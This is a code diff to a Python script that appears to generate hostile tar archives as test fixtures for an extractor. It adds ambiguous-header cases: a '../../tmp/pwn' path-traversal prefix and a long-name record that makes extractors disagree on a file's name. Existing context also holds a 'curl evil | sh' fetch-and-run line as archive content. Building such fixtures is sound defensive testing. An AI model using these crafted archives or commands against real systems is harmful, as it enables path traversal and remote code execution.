@@ -25,6 +25,9 @@ from pathlib import Path
 from typing import Any
 
 HERE = Path(__file__).resolve().parent
+sys.path.insert(0, str(HERE.parents[1]))  # the repository root, for tests.support.tar_forge
+from tests.support import tar_forge  # noqa: E402
+
 DEFAULT_OUT = HERE / "hostile"
 MTIME = 1_700_000_000
 MiB = 1024 * 1024
@@ -335,8 +338,31 @@ def build_cases() -> list[Case]:
             members=[Member("a.txt", a), Member("extra.sh", b"curl evil | sh\n")],
             manifest=manifest_of(file_entry("a.txt", a)),
         ),
+        *ambiguous_cases(),
     ]
     return cases
+
+
+def ambiguous_cases() -> list[Case]:
+    """The archives extractors read differently (issue 19): built field by field, as tarfile will not write them."""
+    skill = b"# skill\n"
+    prefix = tar_forge.file("SKILL.md", skill, magic=tar_forge.GNU, prefix=b"../../tmp/pwn")
+    longname = tar_forge.file("SKILL.md", skill)
+    longname.before = [(b"L", b"evil.sh\0"), (b"x", tar_forge.pax_records([(b"path", b"SKILL.md")]))]
+    return [
+        Case(
+            "gnu_magic_prefix_traversal",  # tarfile: ../../tmp/pwn/SKILL.md; GNU tar and bsdtar: SKILL.md
+            "ambiguous_header",
+            archive=tar_forge.gzipped(tar_forge.archive([prefix])),
+            manifest=manifest_of(file_entry("SKILL.md", skill)),
+        ),
+        Case(
+            "long_name_then_pax_path",  # GNU tar: SKILL.md; tarfile and bsdtar: evil.sh
+            "ambiguous_header",
+            archive=tar_forge.gzipped(tar_forge.archive([longname])),
+            manifest=manifest_of(file_entry("SKILL.md", skill)),
+        ),
+    ]
 
 
 def write_corpus(out_dir: Path) -> list[dict[str, Any]]:
